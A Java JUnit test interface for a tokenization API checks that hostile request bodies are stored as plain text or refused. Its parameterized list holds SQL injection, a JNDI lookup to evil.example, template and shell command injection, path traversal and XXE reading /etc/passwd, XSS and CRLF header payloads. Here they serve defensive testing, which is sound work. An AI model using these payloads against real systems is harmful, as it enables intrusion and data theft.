package io.scrip.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.scrip.TestServer;
import io.scrip.TestServer.Answer;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Bodies that mean harm. */
interface BodyAttacks extends ApiContract {
  /** {@code micronaut.server.max-request-size}: 2 MB, in bytes. */
  int MAX_BODY = 2 * 1024 * 1024;

  default Answer send(String path, byte[] body, String contentType) {
    HttpRequest request =
        HttpRequest.newBuilder(server().api(path))
            .header("Content-Type", contentType)
            .header("Authorization", "Bearer " + server().token("dev-admin"))
            .POST(BodyPublishers.ofByteArray(body))
            .build();
    return TestServer.send(request);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; drop table scrip.tokens; --",
        "' or '1'='1",
        "x') ; delete from tokens where ('a'='a",
        "\\'; --",
        "1; select pg_sleep(10)",
        "%' and 1=1 --",
        "\"},{\"data\":\"y\"}",
        "\",\"template\":\"uuid\",\"x\":\"",
        "{\"$gt\":\"\"}",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "#{7*7}",
        "$(id)",
        "`id`",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "a\r\nSet-Cookie: x=1",
        "\u0000",
        "tok_",
        "*",
        "%",
        "_"
      })
  default void what_means_something_elsewhere_is_only_text_here(String text) {
    String template = template("format", "opaque", "searchable", true);
    String kept = token("data", "kept", "template", template);
    String token =
        token("data", text, "subject", text, "metadata", Map.of(text, text), "template", template);
    assertThat(detokenize("dev-reader", token).text("data")).isEqualTo(text);
    Expect.problem(server().post("/v1/detokenize", Json.of("token", text)), 404, "token-not-found");
    Expect.problem(server().post("/v1/detokenize", Json.of("name", text)), 404, "token-not-found");
    Expect.problem(
        server().post("/v1/tokens/lookup", Json.of("name", text)), 404, "token-not-found");
    Expect.problem(
        server().post("/v1/tokens/renew", Json.of("name", text)), 404, "token-not-found");
    Expect.problem(
        server().post("/v1/tokenize", Json.of("data", "x", "template", text)),
        400,
        text.equals("tok_") ? "unknown-template" : "invalid-field");
    Expect.problem(
        server().post("/v1/detokenize", Json.of("token", "t", "purpose", text)),
        text.equals("tok_") ? 404 : 400,
        text.equals("tok_") ? "token-not-found" : "invalid-field");
    assertThat(
            Json.texts(
                server().post("/v1/tokens/search", Json.of("subject", text)), "tokens", "token"))
        .contains(token)
        .doesNotContain(kept);
    assertThat(
            Json.texts(
                server().post("/v1/tokens/search", Json.of("data", text, "template", template)),
                "tokens",
                "token"))
        .contains(token)
        .doesNotContain(kept);
    int asActor = text.chars().anyMatch(Character::isISOControl) ? 400 : 200;
    for (String by :
        List.of(
            Json.of("createdBy", text),
            Json.of("revealedTo", text, "since", "2020-01-01T00:00:00Z"))) {
      assertThat(server().post("/v1/tokens/revoke", by).status()).isEqualTo(asActor);
    }
    assertThat(server().post("/v1/audit/events", Json.of("actor", text, "subject", text)).status())
        .isEqualTo(asActor);
    assertThat(isLive(token)).isTrue();
    revoke("subject", text);
    assertThat(isLive(token)).isFalse();
    assertThat(isLive(kept)).isTrue();
  }

  @Test
  default void json_ten_thousand_deep_is_refused() {
    for (String deep :
        List.of(
            "[".repeat(10_000),
            "[".repeat(10_000) + "]".repeat(10_000),
            "{\"data\":".repeat(10_000),
            "{\"data\":" + "[".repeat(10_000),
            "{\"metadata\":" + "{\"a\":".repeat(10_000))) {
      Expect.problem(server().post("/v1/tokenize", deep), 400, "malformed-json");
    }
  }

  @Test
  default void numbers_and_names_beyond_reason_are_refused() {
    Expect.problem(
        server()
            .post("/v1/tokens/search", "{\"subject\":\"s\",\"limit\":" + "9".repeat(100_000) + "}"),
        400,
        "malformed-json");
    Expect.problem(
        server().post("/v1/tokens/search", "{\"subject\":\"s\",\"limit\":1e999999999}"),
        400,
        "invalid-field");
    Expect.problem(
        server().post("/v1/tokenize", "{\"" + "n".repeat(100_000) + "\":1}"),
        400,
        "malformed-json");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"data\":\"x\",\"data\":\"y\"}",
        "{\"data\":\"x\",\"d\\u0061ta\":\"y\"}",
        "{\"data\":\"x\",\"metadata\":{\"a\":\"1\",\"a\":\"2\"}}",
        "{\"data\":\"x\",\"unknown\":1,\"unknown\":2}"
      })
  default void a_field_stands_once(String body) {
    Expect.problem(server().post("/v1/tokenize", body), 400, "duplicate-field");
  }

  @Test
  default void another_charset_or_type_is_refused() {
    String body = "{\"data\":\"x\"}";
    Expect.problem(
        send(
            "/v1/tokenize",
            body.getBytes(StandardCharsets.UTF_16),
            "application/json; charset=utf-16"),
        415,
        "unsupported-media-type");
    Expect.problem(
        send(
            "/v1/tokenize",
            body.getBytes(StandardCharsets.ISO_8859_1),
            "application/json; charset=iso-8859-1"),
        415,
        "unsupported-media-type");
    Expect.ok(send("/v1/tokenize", RawHttp.bytes(body), "application/json; charset=UTF-8"), 201);
    for (String type :
        List.of(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/octet-stream",
            "text/json",
            "application/cbor")) {
      Expect.problem(
          send("/v1/tokenize", RawHttp.bytes(body), type), 415, "unsupported-media-type");
    }
  }

  @Test
  default void bytes_that_are_not_utf_8_are_refused() {
    for (int[] bytes :
        new int[][] {
          {0xff},
          {0xc0, 0x80},
          {0xe2, 0x82},
          {0xed, 0xa0, 0x80},
          {0xf5, 0x80, 0x80, 0x80},
          {0xf0, 0x80, 0x80, 0x80},
          {0x80}
        }) {
      byte[] body = RawHttp.bytes("{\"data\":\"" + "?".repeat(bytes.length) + "\"}");
      for (int i = 0; i < bytes.length; i++) {
        body[9 + i] = (byte) bytes[i];
      }
      Expect.problem(send("/v1/tokenize", body, "application/json"), 400, "malformed-json");
    }
    for (var charset :
        List.of(StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.UTF_16BE)) {
      Expect.problem(
          send("/v1/tokenize", "{\"data\":\"x\"}".getBytes(charset), "application/json"),
          400,
          "malformed-json");
    }
  }

  @Test
  default void a_body_of_the_largest_size_is_read_and_one_byte_more_is_not() {
    String start = "{\"items\":[{\"data\":\"x\"}]";
    String largest = start + " ".repeat(MAX_BODY - start.length() - 1) + "}";
    Expect.ok(server().post("/v1/tokenize/batch", largest), 200);
    Expect.problem(server().post("/v1/tokenize/batch", largest + " "), 413, "body-too-large");
    Expect.problem(server().post("/v1/detokenize", largest + largest), 413, "body-too-large");
    byte[] chunked = RawHttp.bytes(largest + "   ");
    HttpRequest unsized =
        server()
            .request("dev-admin", "/v1/tokenize/batch")
            .POST(BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(chunked)))
            .build();
    Expect.problem(TestServer.send(unsized), 413, "body-too-large");
  }

  @Test
  default void what_stands_around_the_object_is_refused() {
    for (String body :
        List.of(
            "{\"data\":\"x\"}x",
            "{\"data\":\"x\"},",
            "{\"data\":\"x\"}{}",
            "\ufeff{\"data\":\"x\"}",
            "/* c */{\"data\":\"x\"}",
            "{\"data\":\"x\"}//",
            "{'data':'x'}",
            "{\"data\":\"x\",}",
            "{\"data\":\"a\nb\"}",
            "{\"data\":NaN}",
            "  ",
            "\u0000")) {
      Expect.problem(server().post("/v1/tokenize", body), 400, "malformed-json");
    }
  }
}
